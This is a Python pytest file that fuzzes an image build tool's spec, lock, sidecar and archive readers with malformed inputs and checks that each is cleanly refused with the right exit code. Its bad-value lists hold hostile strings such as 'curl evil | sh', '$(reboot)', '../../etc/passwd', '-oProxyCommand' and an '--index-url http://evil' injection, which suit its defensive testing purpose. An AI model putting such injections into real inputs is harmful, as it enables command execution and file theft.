"""Hundreds of malformed inputs for each reader at the edge: the spec loader (and the
planning that follows it), the lock reader, the sidecar reader and the archive reader
(and the stream guard). Each input must give either a valid result or an
``ImagebuildError`` with the reader's documented exit code: never another exception,
and nothing written."""

from __future__ import annotations

import hashlib
import io
import json
import random
import tarfile
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
import yaml

from imagebuild import context
from imagebuild.archive import ArchiveIndex
from imagebuild.errors import ImagebuildError
from imagebuild.fsutil import PinnedFile
from imagebuild.lock import read_lock
from imagebuild.locking import check_matches
from imagebuild.store import LocalDir
from imagebuild.tarbackup import TarGuard, read_sidecar

from ..archives import save_like
from .conftest import SPEC, Stack

BAD_VALUES: list[object] = [
    None, 0, -1, 5, 99999999999999999999, 1.5, float("nan"), float("inf"), True, [], {},
    [None], [{"a": 1}], {"x": [1]}, "", " ", "x\nRUN curl evil | sh", "$(reboot)",
    "../../etc/passwd", "-oProxyCommand=x", "a" * 5000, "é\u202e", "2.10", "ssh://",
]


def _paths(node: object, prefix: tuple[object, ...] = ()) -> Iterator[tuple[object, ...]]:
    """Every key path of a parsed YAML document."""
    if isinstance(node, dict):
        for k, v in node.items():
            yield (*prefix, k)
            yield from _paths(v, (*prefix, k))
    elif isinstance(node, list):
        for i, v in enumerate(node):
            yield (*prefix, i)
            yield from _paths(v, (*prefix, i))


def _set(doc: object, path: tuple[object, ...], value: object) -> object:
    doc = json.loads(json.dumps(doc))
    node = doc
    for k in path[:-1]:
        node = node[k]  # type: ignore[index]
    node[path[-1]] = value  # type: ignore[index]
    return doc


def _delete(doc: object, path: tuple[object, ...]) -> object:
    doc = json.loads(json.dumps(doc))
    node = doc
    for k in path[:-1]:
        node = node[k]  # type: ignore[index]
    del node[path[-1]]  # type: ignore[arg-type, union-attr]
    return doc


def _byte_damage(text: bytes, rng: random.Random, n: int) -> Iterator[bytes]:
    for _ in range(n):
        data = bytearray(text)
        how = rng.randrange(3)
        pos = rng.randrange(len(data))
        if how == 0:
            yield bytes(data[:pos])  # truncated
        elif how == 1:
            data[pos] = rng.randrange(256)  # one byte replaced
            yield bytes(data)
        else:
            yield bytes(data[:pos] + data[pos:pos + rng.randrange(1, 40)] * 3 + data[pos:])


def _tree(root: Path) -> dict[str, bytes]:
    return {str(p.relative_to(root)): p.read_bytes() for p in sorted(root.rglob("*"))
            if p.is_file()}


def _expect(code: int, fn: Callable[[], object]) -> str:
    try:
        fn()
    except ImagebuildError as exc:
        assert exc.exit_code == code, f"{type(exc).__name__} exits {exc.exit_code}: {exc}"
        return "refused"
    return "accepted"


def test_the_spec_loader_and_planning(stack: Stack) -> None:
    doc = yaml.safe_load(SPEC)
    cases: list[bytes] = []
    for path in _paths(doc):
        for value in BAD_VALUES:
            cases.append(yaml.safe_dump(_set(doc, path, value)).encode())
        cases.append(yaml.safe_dump(_delete(doc, path)).encode())
    for key in ("surprise", "images"):
        cases.append(yaml.safe_dump({**doc, key: {"x": 1}}).encode())
    cases += list(_byte_damage(SPEC.encode(), random.Random(1), 150))
    cases += [b"", b"\xff\xfe", b"- a\n- b\n", b"schema: 2\nimages: &a [*a]\n",
              b"schema: 2\n" + b"x: " + b"[" * 2000 + b"]" * 2000 + b"\n"]
    before = _tree(stack.root)
    outcomes = {"accepted": 0, "refused": 0}
    for data in cases:
        stack.spec_path.write_bytes(data)

        def load_and_plan() -> None:
            ctx = context.load(str(stack.spec_path))
            context.plan_images(ctx, [])

        outcomes[_expect(2, load_and_plan)] += 1
    assert len(cases) >= 300 and outcomes["refused"] >= 250, outcomes
    stack.spec_path.write_bytes(before["imagebuild.yaml"])
    assert _tree(stack.root) == before  # nothing written


def test_the_lock_reader(stack: Stack) -> None:
    text = stack.spec_path.parent.joinpath("wheels.lock").read_bytes()
    import tomllib

    doc = tomllib.loads(text.decode())
    cases: list[bytes] = []

    def toml(d: dict[str, object]) -> bytes:
        lines = [f"version = {json.dumps(d.get('version'))}"] if "version" in d else []
        for w in d.get("wheel", []):  # type: ignore[attr-defined]
            lines.append("[[wheel]]")
            lines += [f"{k} = {json.dumps(v)}" for k, v in w.items()]
        return "\n".join(lines).encode() + b"\n"

    for i, wheel in enumerate(doc["wheel"]):
        for key in wheel:
            for value in ["", "x", "unresolved", "wheels/../../etc/passwd", "a" * 64,
                          "x-1.0-py3-none-any.whl\n;evil", "file:///etc/passwd",
                          "http://x/ --index-url http://evil", "ABCDEF" * 10 + "abcd",
                          "sha256:" + "a" * 64, 5, True, [1], {"a": 1}]:
                broken = json.loads(json.dumps(doc))
                broken["wheel"][i][key] = value
                cases.append(toml(broken))
            broken = json.loads(json.dumps(doc))
            del broken["wheel"][i][key]
            cases.append(toml(broken))
        dup = json.loads(json.dumps(doc))
        dup["wheel"].append({**wheel, "filename": wheel["filename"].replace("-py3", "-py2")})
        cases.append(toml(dup))
    cases += [b"version = 1\nwheel = 5\n", b"version = 2\n", b"", b"\xff\xfe",
              b"version = 1\n[wheel]\nname = 'x'\n", b"version = 1\nextra = 1\n"]
    cases += list(_byte_damage(text, random.Random(2), 100))
    lock_path = stack.root / "wheels.lock"
    spec = stack.load()
    decls = spec.wheels
    outcomes = {"accepted": 0, "refused": 0}
    for data in cases:
        lock_path.write_bytes(data)

        def read_and_match() -> None:
            check_matches(read_lock(lock_path), decls, spec.path)

        outcomes[_expect(2, read_and_match)] += 1
    assert len(cases) >= 200 and outcomes["refused"] >= 190, outcomes


def test_the_sidecar_reader(tmp_path: Path) -> None:
    good = {"image": "vllm-node", "image_id": "sha256:" + "1" * 64,
            "fingerprint": "sha256:" + "2" * 64, "input_hash": "3" * 64,
            "tags": ["vllm-node:333333333333", "vllm-node:latest"], "size": 10,
            "sha256": "4" * 64, "created": "2026-11-23T00:00:00+00:00", "mtime_ns": 1,
            "tool_version": "0.1.0", "ino": 0, "ctime_ns": 0}
    cases: list[bytes] = []
    for key in good:
        for value in BAD_VALUES:
            cases.append(json.dumps({**good, key: value}).encode())
        cases.append(json.dumps({k: v for k, v in good.items() if k != key}).encode())
    cases += [json.dumps({**good, "extra": 1}).encode(), b"[]", b"null", b"", b"\xff",
              b"{" * 10000, json.dumps({**good, "size": 10 ** 5000 if False else 2 ** 200})
              .encode()]
    cases += list(_byte_damage(json.dumps(good).encode(), random.Random(3), 120))
    store = LocalDir(tmp_path)
    (tmp_path / "x.tar").write_bytes(b"")
    outcomes = {"accepted": 0, "refused": 0}
    for data in cases:
        (tmp_path / "x.tar.json").write_bytes(data)
        outcomes[_expect(8, lambda: read_sidecar(store, "x.tar"))] += 1
    assert len(cases) >= 300 and outcomes["refused"] >= 280, outcomes


def test_the_archive_reader_and_the_stream_guard(tmp_path: Path) -> None:
    saved = save_like(tmp_path / "good.tar", [b"base" * 2000, b"top" * 700],
                      tags=["img:abc"])
    data = saved.path.read_bytes()
    sha = hashlib.sha256(data).hexdigest()
    rng = random.Random(4)
    cases = list(_byte_damage(data, rng, 200))
    with tarfile.open(saved.path) as tf:
        files = {m.name: tf.extractfile(m).read() for m in tf if m.isfile()}  # type: ignore[union-attr]
    for value in BAD_VALUES:
        for key in ("Config", "Layers", "RepoTags"):
            manifest = json.loads(files["manifest.json"])
            manifest[0][key] = value
            buf = io.BytesIO()
            with tarfile.open(fileobj=buf, mode="w") as out:
                for name, content in {**files,
                                      "manifest.json": json.dumps(manifest).encode()}.items():
                    ti = tarfile.TarInfo(name)
                    ti.size = len(content)
                    out.addfile(ti, io.BytesIO(content))
            cases.append(buf.getvalue())
    outcomes = {"accepted": 0, "refused": 0}
    path = tmp_path / "case.tar"
    for case in cases:
        path.write_bytes(case)

        def index_and_check() -> None:
            with PinnedFile.open(path) as f:
                ArchiveIndex.read(f).check(saved.info.fingerprint, {"img:abc"})

        def stream(case: bytes = case) -> None:
            guard = TarGuard(str(path), len(data), sha, lambda n, d: None, lambda m: None)
            out = b"".join(guard.feed([case[i:i + 700] for i in range(0, len(case), 700)]))
            assert out == data  # only the original passes, whole

        indexed, streamed = _expect(8, index_and_check), _expect(8, stream)
        outcomes[indexed] += 1
        if case != data:
            assert streamed == "refused"
    assert len(cases) >= 250 and outcomes["refused"] >= 150, outcomes


@pytest.fixture(autouse=True)
def _no_network(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("imagebuild.web.get_text", lambda url: (_ for _ in ()).throw(
        OSError("no network in unit tests")))
